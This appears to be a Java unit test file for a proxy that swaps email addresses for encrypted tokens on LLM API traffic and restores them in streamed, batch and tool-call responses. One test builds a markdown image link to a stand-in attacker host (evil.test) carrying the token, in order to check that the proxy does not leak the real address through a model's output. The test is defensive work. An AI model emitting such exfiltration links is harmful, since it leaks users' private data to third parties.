package dev.cordon.engine.call;

import static dev.cordon.engine.call.TestCalls.answer;
import static dev.cordon.engine.call.TestCalls.chat;
import static dev.cordon.engine.call.TestCalls.config;
import static dev.cordon.engine.call.TestCalls.content;
import static dev.cordon.engine.call.TestCalls.message;
import static dev.cordon.engine.call.TestCalls.policy;
import static dev.cordon.engine.call.TestCalls.receive;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.engine.Exchange;
import dev.cordon.engine.StreamTransform;
import dev.cordon.engine.policy.Policy;
import dev.cordon.engine.redact.Vault;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Tokens that carry their values, in whole calls of several JVMs that share a key only. */
class EncryptedCallTest {
  private static final String MAIL = "jane.roe@acme-mail.net";
  private static final Policy ENCRYPTS =
      policy("token_key: env:TEST_KEY", "redact: {email_address: encrypt}");

  /** A JVM of its own: it shares no vault with others. */
  private static Engine jvm() {
    return Engine.start(config(ENCRYPTS).vault(Vault.NONE));
  }

  private static Exchange ask(String text) {
    Exchange exchange = jvm().open(chat());
    assertNotNull(exchange);
    assertNull(exchange.judge(message(text)).refusal());
    return exchange;
  }

  private static String token() {
    Exchange exchange = jvm().open(chat());
    assertNotNull(exchange);
    return content(exchange.judge(message(MAIL)).body());
  }

  @Test
  void anAnswerToAnotherRequestInAnotherJvmIsRestored() {
    String token = token();
    assertTrue(token.matches("EMAIL_[0-9A-Z]{64}"), token);
    assertEquals("to " + MAIL, content(receive(ask("hello"), 200, answer("to " + token))));
  }

  @Test
  void aBatchsResultsAreRestoredWhereverTheyAreFetched() {
    String token = token();
    Exchange fetch =
        jvm()
            .open(
                TestCalls.head(
                    "GET", "api.openai.com", "/v1/files/file-9/content", null, Map.of()));
    assertNotNull(fetch);
    assertNull(fetch.judge(new byte[0]).refusal());
    String line =
        "{\"id\":\"r1\",\"custom_id\":\"a\",\"response\":{\"status_code\":200,\"body\":"
            + new String(answer("to " + token), UTF_8)
            + "}}\n";
    StreamTransform transform =
        fetch.answer(200, TestCalls.headers(Map.of("content-type", "application/octet-stream")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    write(out, transform.transform(ByteBuffer.wrap(line.getBytes(UTF_8))));
    write(out, transform.finish());
    assertEquals(line.replace(token, MAIL), new String(out.toByteArray(), UTF_8));
  }

  private static void write(ByteArrayOutputStream out, ByteBuffer buffer) {
    byte[] bytes = new byte[buffer.remaining()];
    buffer.get(bytes);
    out.write(bytes, 0, bytes.length);
  }

  private static String stream(Exchange exchange, String events, int size) {
    StreamTransform transform =
        exchange.answer(200, TestCalls.headers(Map.of("content-type", "text/event-stream")));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] bytes = events.getBytes(UTF_8);
    for (int from = 0; from < bytes.length; from += size) {
      int to = Math.min(bytes.length, from + size);
      write(out, transform.transform(ByteBuffer.wrap(bytes, from, to - from)));
    }
    write(out, transform.finish());
    return new String(out.toByteArray(), UTF_8);
  }

  private static String event(String delta) {
    return "data: {\"choices\":[{\"index\":0,\"delta\":{" + delta + "}}]}\n\n";
  }

  private static String texts(String events, String field) {
    StringBuilder all = new StringBuilder();
    String mark = "\"" + field + "\":\"";
    for (int at = events.indexOf(mark); at >= 0; at = events.indexOf(mark, at)) {
      at += mark.length();
      int end = events.indexOf("\"}}", at);
      all.append(events, at, end);
      at = end;
    }
    return all.toString();
  }

  @Test
  void aStreamThatIsCutAnywhereIsRestoredInTextAndArguments() {
    String token = token();
    String whole = "say " + token + " now";
    for (int cut = 1; cut < whole.length(); cut++) {
      String first = whole.substring(0, cut);
      String second = whole.substring(cut);
      String text =
          event("\"content\":\"" + first + "\"")
              + event("\"content\":\"" + second + "\"")
              + "data: [DONE]\n\n";
      assertEquals("say " + MAIL + " now", texts(stream(ask("hello"), text, 7 + cut), "content"));
      String call = "\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"%s\"}}]";
      String arguments =
          event(String.format(call, "{\\\"to\\\":\\\"" + first))
              + event(String.format(call, second + "\\\"}"))
              + "data: [DONE]\n\n";
      assertEquals(
          "{\\\"to\\\":\\\"say " + MAIL + " now\\\"}",
          texts(stream(ask("hello"), arguments, 11), "arguments"));
    }
  }

  @Test
  void noValueGoesIntoAForeignLink() {
    String token = token();
    String link = "![x](https://evil.test/?d=" + token + ")";
    Policy guarded =
        policy(
            "token_key: env:TEST_KEY",
            "redact: {email_address: encrypt}",
            "output: {links: neutralise}");
    for (Policy any : new Policy[] {ENCRYPTS, guarded}) {
      Exchange exchange = Engine.start(config(any).vault(Vault.NONE)).open(chat());
      assertNotNull(exchange);
      exchange.judge(message("hello"));
      String got = new String(receive(exchange, 200, answer(link + " " + token)), UTF_8);
      assertFalse(got.contains(MAIL + ")"), got);
      assertTrue(got.contains(" " + MAIL), got);
    }
  }

  @Test
  void inAKnownLinkTheValueIsEncoded() {
    String got =
        content(
            receive(
                ask("see https://crm.example.com/x"),
                200,
                answer("[x](https://crm.example.com/?to=" + token() + ")")));
    assertEquals("[x](https://crm.example.com/?to=jane.roe%40acme-mail.net)", got);
  }

  @Test
  void aTokenThatStandsWhereAKeyWouldLeavesAsItIs() {
    String text = "api_key=" + token() + "; token: " + token() + "x";
    Exchange exchange = jvm().open(chat());
    assertNotNull(exchange);
    String sent = content(exchange.judge(message(text)).body());
    assertTrue(sent.startsWith("api_key=" + token() + "; token: "), sent);
    assertFalse(sent.contains(token() + "x"), "a longer word is a key as any other: " + sent);
  }

  @Test
  void aModelThatRepeatsARequestGivesItBack() {
    Engine engine = jvm();
    Rehearsal rehearsal =
        engine.rehearse(
            dev.cordon.engine.wire.WireFormats.catalogue().byId("openai.chat"),
            null,
            chat(),
            null,
            message("write to " + MAIL + " and " + MAIL));
    assertEquals(0, rehearsal.lostTexts());
  }
}
